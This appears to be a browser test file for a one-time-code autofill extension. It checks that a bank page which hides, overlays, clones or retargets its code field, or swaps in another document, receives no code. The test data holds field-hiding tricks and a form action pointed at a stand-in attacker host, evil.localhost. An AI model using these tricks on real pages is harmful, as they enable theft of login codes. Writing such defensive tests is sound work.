import { atTheBank, bank } from './at-the-bank.ts';
import { codePage, test } from './own-pages.ts';
import { expect } from './world.ts';

/** What a page may do to its field between being read and being given a code; `f` is the field. */
const hidings: Record<string, string> = {
  'not displayed': "f.style.display = 'none'",
  invisible: "f.style.visibility = 'hidden'",
  'see-through': "f.style.opacity = '0'",
  'in a see-through form': "f.form.style.opacity = '0'",
  'moved away': "f.style.position = 'absolute'; f.style.left = '-9999px'",
  'clipped away': "f.style.clipPath = 'inset(50%)'",
  'one pixel': "f.style.cssText = 'width: 1px; height: 1px; padding: 0; border: 0'",
  'shrunk by its form': "f.form.style.transform = 'scale(0.001)'",
  disabled: 'f.disabled = true',
  'not to be written': 'f.readOnly = true',
  inert: 'f.form.inert = true',
  'under a layer over the page':
    "const d = document.createElement('div'); d.style.cssText = 'position: fixed; inset: 0; background: white; z-index: 9'; document.body.append(d)",
  'replaced by a twin out of sight':
    "const twin = f.cloneNode(); twin.style.cssText = 'position: absolute; left: -9999px'; f.replaceWith(twin)",
  'made to send the code elsewhere': "f.form.action = 'http://evil.localhost/take'",
};

test('a field that is hidden, covered or bent to another site gets nothing, even when that happens just before the code comes', async ({
  sitAtDesk,
  servePages,
}) => {
  const { inside, own, page, tabId, pages } = await atTheBank(await sitAtDesk(), servePages, () => codePage());
  for (const [name, hide] of Object.entries(hidings))
    await test.step(name, async () => {
      await page.goto(pages.url(bank, '/code'));
      const { promptId, candidates } = await inside.promptAt(own.page, tabId);
      await page.evaluate((script) => new Function('f', script)(document.querySelector('#code')), hide);
      const accountId = candidates[0]?.accountId ?? '';
      const result = await inside.fill(own.page, { promptId, accountId, confirmed: true });
      expect(result.ok && result.took, JSON.stringify(result)).toBe(false);
      const values = await page
        .locator('input')
        .evaluateAll((all) => all.map((one) => (one as HTMLInputElement).value));
      expect(values.join('')).toBe('');
    });
});

/** Ways in which another document takes the place of the one that asked. */
const swaps: Record<string, string> = {
  'another page of the site': "location.replace('/other')",
  'a page of another site': "location.replace(location.href.replace('bank', 'shop'))",
  'the same page again': 'location.reload()',
  'written anew': 'document.open(); document.write(window.whole); document.close()',
};

test('a page that puts another document into its place at that moment gets nothing in the new one', async ({
  sitAtDesk,
  servePages,
}) => {
  // Every document of ours says aloud what is typed into it.
  const noting = `<script>addEventListener('input', (event) => (document.title = 'typed ' + event.target.value), true)</script>`;
  const { inside, own, page, tabId, pages } = await atTheBank(await sitAtDesk(), servePages, () => codePage(noting));
  const seed = Date.now() % 100_000;
  console.log(`swaps: seed ${seed}`);
  let random = seed;
  const outcomes: Record<string, number> = {};
  for (let run = 0; run < 36; run++) {
    const [name, swap] = Object.entries(swaps)[run % 4] as [string, string];
    random = (random * 48_271) % 2_147_483_647;
    const after = random % 60;
    await page.goto(pages.url(bank, '/code'));
    const { promptId, candidates } = await inside.promptAt(own.page, tabId);
    await page.evaluate(() => {
      Object.assign(window, { whole: document.documentElement.outerHTML });
      document.documentElement.dataset.first = 'yes';
    });
    const accountId = candidates[0]?.accountId ?? '';
    const swapped = page.evaluate(
      ({ script, after }) => {
        setTimeout(() => {
          delete document.documentElement.dataset.first;
          new Function(script)();
        }, after);
      },
      { script: swap, after },
    );
    const [result] = await Promise.all([inside.fill(own.page, { promptId, accountId, confirmed: true }), swapped]);
    await expect
      .poll(
        () =>
          page
            .evaluate(() => document.readyState === 'complete' && !document.documentElement.dataset.first)
            .catch(() => false),
        {
          intervals: [20, 50],
        },
      )
      .toBe(true);
    const what = result.ok ? (result.took ? 'filled before' : 'not taken') : result.why;
    outcomes[what] = (outcomes[what] ?? 0) + 1;
    expect(await page.locator('#code').inputValue(), `${name}, after ${after} ms`).toBe('');
    expect(await page.title(), `${name}, after ${after} ms`).toBe('Sign in');
  }
  console.log('swaps:', JSON.stringify(outcomes));
});
